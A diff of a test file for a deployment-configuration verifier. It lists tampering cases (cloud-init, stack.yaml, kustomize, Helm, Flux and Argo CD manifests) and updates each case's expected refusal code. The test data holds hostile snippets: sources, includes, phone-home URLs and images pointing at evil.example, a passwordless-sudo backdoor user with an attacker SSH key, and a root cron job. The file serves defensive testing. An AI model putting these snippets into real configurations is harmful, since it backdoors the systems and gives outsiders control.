@@ -6,103 +6,106 @@ const every = 'every-option';
 
 /** User-data, stack.yaml, kustomization.yaml and what comes by Helm or Git. */
 export const entrances: SabotagesOfKind = [
-  refused('cloud-init runs a command more', 'verify/TODO', { file, put: '  - - id\n' }),
-  refused('cloud-init runs a command early', 'verify/TODO', { file, put: 'bootcmd:\n  - - id\n' }),
-  refused('cloud-init sets a password', 'verify/TODO', { file, put: 'password: secret\nssh_pwauth: true\n' }),
-  refused('cloud-init takes packages from elsewhere', 'verify/TODO', {
+  refused('cloud-init runs a command more', 'verify/schema', { file, put: '  - - id\n' }),
+  refused('cloud-init runs a command early', 'verify/schema', { file, put: 'bootcmd:\n  - - id\n' }),
+  refused('cloud-init sets a password', 'verify/schema', {
+    file,
+    put: 'password: secret\nssh_pwauth: true\n',
+  }),
+  refused('cloud-init takes packages from elsewhere', 'verify/schema', {
     file,
     put: 'apt:\n  sources:\n    more:\n      source: deb http://evil.example x main\n',
   }),
-  refused('cloud-init tells somebody', 'verify/TODO', {
+  refused('cloud-init tells somebody', 'verify/schema', {
     file,
     put: 'phone_home:\n  url: http://evil.example\n',
   }),
-  refused('cloud-init includes from elsewhere', 'verify/TODO', {
+  refused('cloud-init includes from elsewhere', 'verify/schema', {
     file,
     find: '#cloud-config\n',
     put: '#include http://evil.example\n',
   }),
-  refused('cloud-init reads a template', 'verify/TODO', {
+  refused('cloud-init reads a template', 'verify/schema', {
     file,
     find: '#cloud-config\n',
     put: '## template: jinja\n#cloud-config\n',
   }),
-  refused('a key of somebody for the first user', 'verify/TODO', {
+  refused('a key of somebody for the first user', 'verify/not-as-meant', {
     file,
     find: 'write_files:',
     put: 'ssh_authorized_keys:\n  - "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ1J1J1J1J1J1J1J1J1J1J1J1J1J1J1J1J1J1J1J1J1J evil"\nwrite_files:',
   }),
-  refused('a key that runs a command', 'verify/TODO', {
+  refused('a key that runs a command', 'verify/schema', {
     file,
     find: 'write_files:',
     put: 'ssh_authorized_keys:\n  - "command=\\"id\\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ1J1J1J1J1J1J1J1J1J1J1J1J1J1J1J1J1J1J1J1J1J evil"\nwrite_files:',
   }),
-  refused('a user of somebody', 'verify/TODO', {
+  refused('a user of somebody', 'verify/not-as-meant', {
     file,
     find: 'write_files:',
     put: 'users:\n  - default\n  - name: evil\n    groups: sudo\n    shell: /bin/bash\n    sudo: ALL=(ALL) NOPASSWD:ALL\n    lock_passwd: true\n    ssh_authorized_keys:\n      - "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ1J1J1J1J1J1J1J1J1J1J1J1J1J1J1J1J1J1J1J1J1J evil"\nwrite_files:',
   }),
-  refused('a file more that cloud-init writes', 'verify/TODO', {
+  refused('a file more that cloud-init writes', 'verify/schema', {
     file,
     find: 'runcmd:',
     put: '  - path: /etc/cron.d/more\n    permissions: "0644"\n    content: "* * * * * root id\\n"\nruncmd:',
   }),
-  refused('a script more that cloud-init writes', 'verify/TODO', {
+  refused('a script more that cloud-init writes', 'verify/schema', {
     file,
     find: 'runcmd:',
     put: '  - path: /usr/local/sbin/more\n    permissions: "0755"\n    content: "#!/bin/bash\\nid\\n"\nruncmd:',
   }),
-  refused('another script than the one beside', 'verify/TODO', {
+  refused('another script than the one beside', 'verify/schema', {
     file,
     find: 'permissions: "0700"',
     put: 'permissions: "0777"',
   }),
   refused(
     'a token in the user-data',
-    'verify/TODO',
+    'verify/schema',
     { file, find: '"@FJORD_SERVER_TOKEN@"', put: '"K10abcdef"' },
     'three-servers',
   ),
-  refused('a password in stack.yaml', 'verify/TODO', {
+  refused('a password in stack.yaml', 'verify/schema', {
     file: 'stack.yaml',
     find: '    namespace: openfaas-fn\n',
     put: '    namespace: openfaas-fn\n    environment_file: [/tmp/env]\n',
   }),
-  refused('a build of stack.yaml takes a command', 'verify/TODO', {
+  refused('a build of stack.yaml takes a command', 'verify/schema', {
     file: 'stack.yaml',
     find: 'functions:\n',
     put: 'configuration:\n  templates:\n    - name: x\n      source: https://evil.example/x\nfunctions:\n',
   }),
-  refused('faas-cli speaks to somebody', 'verify/TODO', {
+  refused('faas-cli speaks to somebody', 'verify/stack-differs', {
     file: 'stack.yaml',
     find: 'gateway: https://functions.your-domain.no',
     put: 'gateway: https://evil.example',
   }),
-  refused('kustomize changes what is applied', 'verify/TODO', {
+  refused('kustomize changes what is applied', 'verify/schema', {
     file: 'manifests/kustomization.yaml',
     put: 'patches:\n  - target: { kind: Deployment }\n    patch: "[]"\n',
   }),
-  refused('kustomize takes more from elsewhere', 'verify/TODO', {
+  refused('kustomize takes more from elsewhere', 'verify/schema', {
     file: 'manifests/kustomization.yaml',
     put: '  - https://evil.example/x.yaml\n',
   }),
-  refused('kustomize renames images', 'verify/TODO', {
+  refused('kustomize renames images', 'verify/schema', {
     file: 'manifests/kustomization.yaml',
     put: 'images:\n  - name: ghcr.io/openfaas/gateway\n    newName: evil.example/gateway\n',
   }),
-  refused('kustomize runs a generator', 'verify/TODO', {
+  refused('kustomize runs a generator', 'verify/schema', {
     file: 'manifests/kustomization.yaml',
     put: 'generators:\n  - x.yaml\n',
   }),
   refused(
     'the chart opens Services',
-    'verify/TODO',
+    'verify/object-not-ours',
     { file: 'manifests/20-openfaas.yaml', find: 'exposeServices: false', put: 'exposeServices: true' },
     'helm',
   ),
   refused(
     'the chart has an Ingress',
-    'verify/TODO',
+    'verify/object-not-ours',
     {
       file: 'manifests/20-openfaas.yaml',
       find: '    clusterRole: false\n',
@@ -112,19 +115,19 @@ export const entrances: SabotagesOfKind = [
   ),
   refused(
     'the chart gives the provider the cluster',
-    'verify/TODO',
+    'verify/object-not-ours',
     { file: 'manifests/20-openfaas.yaml', find: 'clusterRole: false', put: 'clusterRole: true' },
     'helm',
   ),
   refused(
     'the chart lets functions run as root',
-    'verify/TODO',
+    'verify/object-not-ours',
     { file: 'manifests/20-openfaas.yaml', find: 'setNonRootUser: true', put: 'setNonRootUser: false' },
     'helm',
   ),
   refused(
     'the chart opens a port of the nodes',
-    'verify/TODO',
+    'verify/object-not-ours',
     {
       file: 'manifests/20-openfaas.yaml',
       find: '    gateway:\n',
@@ -134,7 +137,7 @@ export const entrances: SabotagesOfKind = [
   ),
   refused(
     'the chart is carried as a file that nobody read',
-    'verify/TODO',
+    'verify/object-not-ours',
     {
       file: 'manifests/20-openfaas.yaml',
       find: '  chart: openfaas\n',
@@ -144,7 +147,7 @@ export const entrances: SabotagesOfKind = [
   ),
   refused(
     "the chart's values come from a Secret",
-    'verify/TODO',
+    'verify/object-not-ours',
     {
       file: 'manifests/20-openfaas.yaml',
       find: '  targetNamespace: openfaas\n',
@@ -154,7 +157,7 @@ export const entrances: SabotagesOfKind = [
   ),
   refused(
     'the chart is installed by an image of somebody',
-    'verify/TODO',
+    'verify/object-not-ours',
     {
       file: 'manifests/20-openfaas.yaml',
       find: '  failurePolicy: abort\n',
@@ -164,7 +167,7 @@ export const entrances: SabotagesOfKind = [
   ),
   refused(
     'the chart is of a place of somebody',
-    'verify/TODO',
+    'verify/chart-not-locked',
     {
       file: 'manifests/20-openfaas.yaml',
       find: 'repo: https://openfaas.github.io/faas-netes/',
@@ -174,7 +177,7 @@ export const entrances: SabotagesOfKind = [
   ),
   refused(
     'the chart runs a sidecar',
-    'verify/TODO',
+    'verify/object-not-ours',
     {
       file: 'manifests/20-openfaas.yaml',
       find: '    functions:\n',
@@ -184,7 +187,7 @@ export const entrances: SabotagesOfKind = [
   ),
   refused(
     'Flux is installed from somewhere',
-    'verify/TODO',
+    'verify/chart-not-locked',
     {
       file: 'gitops/10-flux.yaml',
       find: 'https://fluxcd-community.github.io/helm-charts',
@@ -194,7 +197,7 @@ export const entrances: SabotagesOfKind = [
   ),
   refused(
     'Flux has values of its own',
-    'verify/TODO',
+    'verify/object-not-ours',
     {
       file: 'gitops/10-flux.yaml',
       find: '    notificationController: *a1\n',
@@ -204,13 +207,13 @@ export const entrances: SabotagesOfKind = [
   ),
   refused(
     'Flux takes manifests of another directory',
-    'verify/TODO',
+    'verify/not-as-meant',
     { file: 'gitops/20-source.yaml', find: 'path: "./dist/manifests"', put: 'path: "./evil"' },
     'gitops',
   ),
   refused(
     'Flux takes manifests of another repository',
-    'verify/TODO',
+    'verify/not-as-meant',
     {
       file: 'gitops/20-source.yaml',
       find: 'https://git.example.no/shop/platform.git',
@@ -220,19 +223,19 @@ export const entrances: SabotagesOfKind = [
   ),
   refused(
     'Flux takes another branch',
-    'verify/TODO',
+    'verify/not-as-meant',
     { file: 'gitops/20-source.yaml', find: 'branch: main', put: 'branch: evil' },
     'gitops',
   ),
   refused(
     'Flux deletes nothing any more',
-    'verify/TODO',
+    'verify/object-not-ours',
     { file: 'gitops/20-source.yaml', find: 'prune: true', put: 'prune: false' },
     'gitops',
   ),
   refused(
     'Argo CD takes another repository',
-    'verify/TODO',
+    'verify/not-as-meant',
     {
       file: 'gitops/20-source.yaml',
       find: 'ssh://git@git.example.no/shop/platform.git',
@@ -242,13 +245,13 @@ export const entrances: SabotagesOfKind = [
   ),
   refused(
     'Argo CD installs in another cluster',
-    'verify/TODO',
+    'verify/object-not-ours',
     { file: 'gitops/20-source.yaml', find: 'https://kubernetes.default.svc', put: 'https://evil.example' },
     'gitops-argocd',
   ),
   refused(
     'a function of Pro is read by a profile',
-    'verify/TODO',
+    'verify/object-not-ours',
     {
       file: 'manifests/65-function-resources.yaml',
       find: '    topic: ledger.closed\n',
@@ -258,7 +261,7 @@ export const entrances: SabotagesOfKind = [
   ),
   refused(
     'a function of Pro takes the password',
-    'verify/TODO',
+    'verify/stack-differs',
     {
       file: 'manifests/65-function-resources.yaml',
       find: '    - idle-key\n',
@@ -268,7 +271,7 @@ export const entrances: SabotagesOfKind = [
   ),
   refused(
     'a schedule runs a shell',
-    'verify/TODO',
+    'verify/part-misconfigured',
     {
       file: 'manifests/70-schedules.yaml',
       find: '              command:\n                - curl\n',
@@ -278,7 +281,7 @@ export const entrances: SabotagesOfKind = [
   ),
   refused(
     'a schedule calls somebody',
-    'verify/TODO',
+    'verify/call-undeclared',
     {
       file: 'manifests/70-schedules.yaml',
       find: 'http://gateway.openfaas.svc.cluster.local:8080/async-function/resize',
@@ -288,7 +291,7 @@ export const entrances: SabotagesOfKind = [
   ),
   refused(
     'a schedule posts a file',
-    'verify/TODO',
+    'verify/part-misconfigured',
     {
       file: 'manifests/70-schedules.yaml',
       find: '                - "--fail-with-body"\n',
@@ -298,7 +301,7 @@ export const entrances: SabotagesOfKind = [
   ),
   refused(
     'a schedule is told by a configuration of curl',
-    'verify/TODO',
+    'verify/part-misconfigured',
     {
       file: 'manifests/70-schedules.yaml',
       find: '                - "--fail-with-body"\n',
@@ -306,12 +309,12 @@ export const entrances: SabotagesOfKind = [
     },
     every,
   ),
-  refused('an image of somebody', 'verify/TODO', {
+  refused('an image of somebody', 'verify/stack-differs', {
     file: 'manifests/60-functions.yaml',
     find: 'ghcr.io/nordpay/export-ledger:1.1.0',
     put: 'evil.example/export-ledger:1.1.0',
   }),
-  refused('a lock file with a key more', 'verify/TODO', {
+  refused('a lock file with a key more', 'verify/schema', {
     file: 'platform.lock.json',
     find: '"platform": ',
     put: '"more": 1,\n  "platform": ',
